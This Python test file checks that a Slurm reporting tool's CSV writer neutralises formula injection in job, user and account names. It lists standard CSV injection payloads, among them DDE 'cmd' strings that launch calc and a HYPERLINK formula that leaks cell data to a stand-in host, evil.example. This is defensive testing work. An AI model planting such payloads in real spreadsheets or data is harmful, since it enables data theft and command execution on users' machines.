"""Class 3: CSV formula injection. Job names, users and accounts come from users and land in the report's CSV
files; a spreadsheet runs a cell starting with = + - @ TAB or CR as a formula. No cell of any CSV the project
writes starts with one unless it is a number of a number column, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from slurmtools.reports import capacity, metrics, outputs
from slurmtools.reports.badrows import BadRow, BadRows
from slurmtools.reports.csvsafe import TRIGGERS, write_csv
from slurmtools.reports.sacct import read_sacct
from slurmtools.site import load_site
from slurmtools.topology.sitefile import load_fabric
from tests.hostile import reports_dirty_support as d

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path) -> list[tuple[str, bool]]:
    """Every cell of a CSV file as a spreadsheet would split it (quotes honoured), with whether it was quoted."""
    with open(path, newline="") as fh:
        text = fh.read()
    out = []
    for row in csv.reader(io.StringIO(text, newline="")):
        out += [(c, True) for c in row]
    return out


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip().lower() not in ("nan", "inf", "-inf", "+inf", "infinity", "-infinity")


def _check_dir(out) -> int:
    files = sorted(out.glob("*.csv"))
    for f in files:
        with open(f, newline="") as fh:
            raw = fh.read()
        for cell, _ in _cells(f):
            if cell[:1] in TRIGGERS:
                assert _is_number(cell), f"{f.name}: formula cell {cell!r}"
                assert f",{cell}" in raw or f"\n{cell}" in raw or raw.startswith(cell), f"{f.name}: number quoted"
    return len(files)


def _report_with(names: list[str], users: list[str], accounts: list[str]):
    lines = [d.row(100 + i, 1 + i % 4, name=n, user=u, account=a, hour=i % 20)
             for i, (n, u, a) in enumerate(zip(names, users, accounts))]
    acc = read_sacct(d.dump(lines), source="x")
    bad = BadRows("x", "rows", len(lines) + 1, [BadRow("x", 99, "=reason", "=cmd|' /C calc'!A0|1|2")])
    site = load_site(None)
    cap = capacity.capacity_table(capacity.nodes_from_site(site, load_fabric(site.fabric_path)), None, d.SINCE,
                                  d.UNTIL)
    return metrics.compute(acc.jobs, site, d.SINCE, d.UNTIL, capacity=cap, notes=acc.notes, bad_rows=[bad],
                           fabric=load_fabric(site.fabric_path))


def test_every_csv_of_a_report_with_hostile_names_is_inert(tmp_path):
    n = len(PAYLOADS)
    # users and accounts cannot hold sacct's delimiter; names can (the reader rejoins them)
    words = [p.replace("\r", "").replace("|", "!") for p in PAYLOADS]
    r = _report_with(PAYLOADS, words[::-1], words[1:] + words[:1])
    files = outputs.write(r, tmp_path, outputs.FORMATS)
    assert _check_dir(tmp_path) == sum(1 for p in files if p.suffix == ".csv") >= 20
    assert {"by_gpu_type.csv", "usage_by_leaf.csv", "forecast.csv", "timeline.csv"} <= {p.name for p in files}
    waste = [c for c, _ in _cells(tmp_path / "by_user.csv")]
    assert "'=cmd!' /C calc'!A0" in waste  # shown as text, whole
    listed = (tmp_path / "bad_rows.csv").read_text()
    assert "'=cmd|' /C calc'!A0|1|2" in listed and ",'=reason," in listed
    assert n == 7


def test_a_cr_inside_a_name_cannot_start_a_row_of_its_own(tmp_path):
    """A spreadsheet ends a row at a bare CR: `x<CR>=1+1` unquoted would put =1+1 at the start of a row."""
    write_csv(pd.DataFrame({"name": ["x\r=1+1", "y\n@z"], "n": [1, 2]}), tmp_path / "t.csv")
    with open(tmp_path / "t.csv", newline="") as fh:
        raw = fh.read()
    assert '"x\r=1+1"' in raw and '"y\n@z"' in raw
    assert list(csv.reader(io.StringIO(raw, newline=""))) == [["name", "n"], ["x\r=1+1", "1"], ["y\n@z", "2"]]


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_text(tmp_path):
    df = pd.DataFrame({"delta": [-3, 4], "pct": [-12.5, 0.25], "name": ["-3", "+4"]},
                      index=pd.Index(["-u", "ok"], name="user"))
    write_csv(df, tmp_path / "t.csv", index=True)
    rows = (tmp_path / "t.csv").read_text().splitlines()
    assert rows == ["user,delta,pct,name", "'-u,-3,-12.5,'-3", "ok,4,0.25,'+4"]
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["delta"].tolist() == [-3, 4] and back["pct"].tolist() == [-12.5, 0.25]


NAMES = st.text(alphabet=st.sampled_from(list("=+-@\t\r\n|,;\"'abc0123 .()!")), min_size=1, max_size=12)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                  HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(NAMES, NAMES, NAMES), min_size=1, max_size=6))
def test_no_cell_of_any_written_csv_is_a_formula(tmp_path_factory, triples):
    names = [t[0].replace("\n", " ") for t in triples]
    # user and account names are words (sacct prints what the passwd and sacctmgr allow), still hostile ones
    users = ["".join(ch for ch in t[1] if ch not in "|\r\n") or "u" for t in triples]
    accounts = ["".join(ch for ch in t[2] if ch not in "|\r\n,") or "a" for t in triples]
    r = _report_with(names, users, accounts)
    out = tmp_path_factory.mktemp("csv")
    outputs.write(r, out, ("csv",))
    assert _check_dir(out) >= 20


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_owasp_trigger_is_neutralised_in_the_top_waste_table(tmp_path, payload):
    lines = [d.row(1, 8, name=payload.replace("\n", " ")), d.step(1, 8, "gres/gpuutil=10")]
    acc = read_sacct(d.dump(lines), source="x")
    r = metrics.compute(acc.jobs, None, d.SINCE, d.UNTIL)
    outputs.write(r, tmp_path, ("csv",))
    cells = [c for c, _ in _cells(tmp_path / "top_waste_jobs.csv")]
    assert "'" + payload in cells
